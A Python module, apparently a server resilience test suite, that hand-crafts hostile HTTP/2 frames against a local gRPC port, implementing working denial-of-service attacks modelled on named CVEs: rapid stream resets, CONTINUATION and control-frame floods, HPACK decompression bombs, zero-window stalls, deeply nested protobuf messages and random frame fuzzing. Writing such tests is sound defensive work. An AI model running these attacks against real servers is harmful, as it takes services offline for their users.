"""Hostile HTTP/2 at a box's gRPC port, one function for each kind, frames by hand. See `attacks`.

Source of the kinds: CVE-2023-44487, CVE-2024-27316, CVE-2019-9511 to 9518, CVE-2016-6581.
"""

import random
from collections.abc import Awaitable, Callable
from contextlib import suppress

import trio
from hpack import Encoder

from netstack.grpc.frame_gate import PREFACE
from netstack.grpc.testing import enveloped
from netstack.grpc.v2 import service_pb2

GONE = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
SERVICE = "/apache.rocketmq.v2.MessagingService/"
MIB = 1 << 20
GrpcAttack = Callable[[int, random.Random], Awaitable[None]]


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """Return one frame, or one that is larger than allowed."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def call(encoder: Encoder, stream: int, method: str, *more: tuple[str, str], end: bool = False) -> bytes:
    """Return the headers of a call."""
    head = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "box")]
    head += [("te", "trailers"), ("content-type", "application/grpc"), ("x-mq-client-id", "stranger@1"), *more]
    return frame(HEADERS, encoder.encode(head), flags=END_HEADERS | (END_STREAM if end else 0), stream=stream)


def message(stream: int, content: bytes, *, end: bool = True) -> bytes:
    """Return the data of one message in frames of 16 KiB."""
    body, parts = enveloped(content), list[bytes]()
    for at in range(0, len(body), 16_384):
        last = end and at + 16_384 >= len(body)
        parts.append(frame(DATA, body[at : at + 16_384], flags=END_STREAM if last else 0, stream=stream))
    return b"".join(parts)


BEGIN = PREFACE + frame(SETTINGS)


async def talk(port: int, parts: list[bytes], *, read: bool = True, stay_s: float = 1.0) -> None:
    """Send parts one after the other, and read what comes, or nothing of it."""
    with suppress(*GONE):
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        async with stream, trio.open_nursery() as nursery:
            if read:
                nursery.start_soon(_read, stream)
            with suppress(*GONE), trio.move_on_after(stay_s):
                for part in parts:
                    await stream.send_all(part)
                await trio.sleep(stay_s)
            nursery.cancel_scope.cancel()


async def _read(stream: trio.SocketStream) -> None:
    with suppress(*GONE):
        while await stream.receive_some(65_536):
            pass


async def grpc_rapid_resets(port: int, rng: random.Random) -> None:
    """Calls that are taken back at once, as many as the connection takes."""
    while True:
        encoder = Encoder()
        calls = [
            call(encoder, number, "SendMessage") + frame(RST, bytes(4), stream=number) for number in range(1, 4001, 2)
        ]
        await talk(port, [BEGIN, *calls])


async def grpc_floods(port: int, rng: random.Random) -> None:
    """Settings, pings, windows, empty data, unknown frames."""
    kinds = [
        frame(SETTINGS, (1).to_bytes(2, "big") + rng.randrange(1 << 16).to_bytes(4, "big")),
        frame(PING, bytes(8)),
        frame(WINDOW, (1).to_bytes(4, "big")),
        frame(0x77, bytes(8)),
    ]
    while True:
        for each in kinds:
            await talk(port, [BEGIN, *[each * 1000] * 100], read=rng.random() < 0.5)
        await talk(port, [BEGIN, call(Encoder(), 1, "Telemetry"), frame(DATA, stream=1) * 50_000])


async def grpc_headers_without_end(port: int, rng: random.Random) -> None:
    """Continuations for ever, and blocks that unpack to a thousand times their size."""
    while True:
        await talk(
            port,
            [BEGIN, frame(HEADERS, bytes(16_000), stream=1), *[frame(CONTINUATION, bytes(16_000), stream=1)] * 500],
        )
        await talk(port, [BEGIN, frame(HEADERS, b"\x88", stream=1), frame(CONTINUATION, b"", stream=1) * 100_000])
        large = b"\x40\x01a\x7f\x81\x1e" + b"x" * 4000  # one entry of the table, then a reference of one byte each
        await talk(port, [BEGIN, frame(HEADERS, large + b"\xbe" * 12_000, flags=END_HEADERS, stream=1)])


async def grpc_windows_that_stay_shut(port: int, rng: random.Random) -> None:
    """Answers that nobody may send: windows of nothing, and routes asked for all the same."""
    shut = frame(SETTINGS, (4).to_bytes(2, "big") + bytes(4))
    asked = service_pb2.QueryRouteRequest()
    asked.topic.name = "Filled"
    while True:
        encoder = Encoder()
        calls = [
            call(encoder, number, "QueryRoute") + message(number, asked.SerializeToString())
            for number in range(1, 3001, 2)
        ]
        await talk(port, [PREFACE + shut, *calls], read=rng.random() < 0.5, stay_s=5)


async def grpc_messages_that_never_end(port: int, rng: random.Random) -> None:
    """Two hundred calls with 64 KiB of a message each, which are all that is ever sent."""
    while True:
        encoder = Encoder()
        calls = []
        for number in range(1, 401, 2):
            calls.append(call(encoder, number, "SendMessage"))
            begun = b"\x00" + (4 * MIB).to_bytes(4, "big") + bytes(16_000)
            calls += [frame(DATA, begun, stream=number)] + [frame(DATA, bytes(16_000), stream=number)] * 3
        await talk(port, [BEGIN, *calls], stay_s=20)


async def grpc_hollow_messages(port: int, rng: random.Random) -> None:
    """Fields of nothing by the million, fields in fields, unknown ones: each is small and becomes large."""
    deep = b""
    for _ in range(5000):
        deep = b"\xfa\x07" + _varint(len(deep)) + deep
        if len(deep) > 60_000:
            break
    contents = [b"\x0a\x00" * 30_000, b"\xfb\x07" * 30_000, b"\xfa\x07\x00" * 20_000, deep, b"\x08" + b"\xff" * 60_000]
    while True:
        encoder, parts = Encoder(), [BEGIN]
        for number in range(1, 41, 2):
            method = rng.choice(["SendMessage", "AckMessage", "QueryRoute", "Telemetry", "ReceiveMessage"])
            parts += [call(encoder, number, method), message(number, rng.choice(contents))]
        await talk(port, parts)


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes(out) + bytes((number,))


async def grpc_frames_of_anything(port: int, rng: random.Random) -> None:
    """Any kind with any flags and any bytes."""
    while True:
        parts = [BEGIN]
        for _ in range(50):
            stream, flags = rng.choice((0, 1, 2, 3, 5)), rng.randrange(256)
            parts.append(frame(rng.randrange(11), rng.randbytes(rng.randrange(200)), flags=flags, stream=stream))
        await talk(port, parts, stay_s=0.2)


GRPC_ATTACKS: dict[str, GrpcAttack] = {
    each.__name__.replace("_", " "): each
    for each in (
        grpc_rapid_resets,
        grpc_floods,
        grpc_headers_without_end,
        grpc_windows_that_stay_shut,
        grpc_messages_that_never_end,
        grpc_hollow_messages,
        grpc_frames_of_anything,
    )
}
